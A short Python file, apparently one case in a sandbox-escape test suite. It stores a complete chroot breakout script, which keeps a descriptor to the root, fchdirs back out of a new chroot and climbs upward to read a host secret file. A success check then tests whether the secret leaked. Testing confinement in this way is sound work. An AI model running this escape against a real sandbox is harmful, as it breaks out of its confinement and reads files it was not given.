"""Sale con chroot, fchdir y descriptores de carpetas."""

CODE = """
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)

root = os.open("/", os.O_RDONLY)
os.makedirs("aqui", exist_ok=True)
libc.chroot(b"aqui")
os.fchdir(root)
for _ in range(50):
    os.chdir("..")
libc.chroot(b".")
try:
    print(open("@MAQUINA@/secreto.txt").read())
except OSError as error:
    print(error)
"""


def succeeded(world):
    return world.leaked
